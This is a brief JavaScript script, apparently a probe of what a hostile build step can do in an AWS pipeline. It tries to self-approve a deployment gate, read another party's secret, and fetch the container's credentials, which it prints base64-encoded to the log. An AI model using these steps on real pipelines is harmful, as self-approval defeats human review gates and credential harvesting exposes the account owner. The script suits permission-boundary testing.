import { CodePipeline } from '@aws-sdk/client-codepipeline';
import { SecretsManager } from '@aws-sdk/client-secrets-manager';

// What a hostile build would do with an SDK client and nothing but its own environment. Says nothing of what it was told.
const quiet = async (call) => {
  try {
    await call();
    console.log('it was let in');
  } catch (error) {
    console.log('refused', error.name);
  }
};
await quiet(() =>
  new CodePipeline().putApprovalResult({
    pipelineName: 'shop',
    stageName: 'Gate',
    actionName: 'Approve',
    token: process.env.TOKEN,
    result: { summary: 'me', status: 'Approved' },
  }),
);
await quiet(() => new SecretsManager().getSecretValue({ SecretId: 'theirs' }));
console.log(
  'own secret',
  (await new SecretsManager().getSecretValue({ SecretId: 'mine' })).SecretString.length,
);
const given = await fetch(process.env.AWS_CONTAINER_CREDENTIALS_FULL_URI, {
  headers: { authorization: process.env.AWS_CONTAINER_AUTHORIZATION_TOKEN },
});
console.log(`credentials ${Buffer.from(await given.text()).toString('base64')}`);
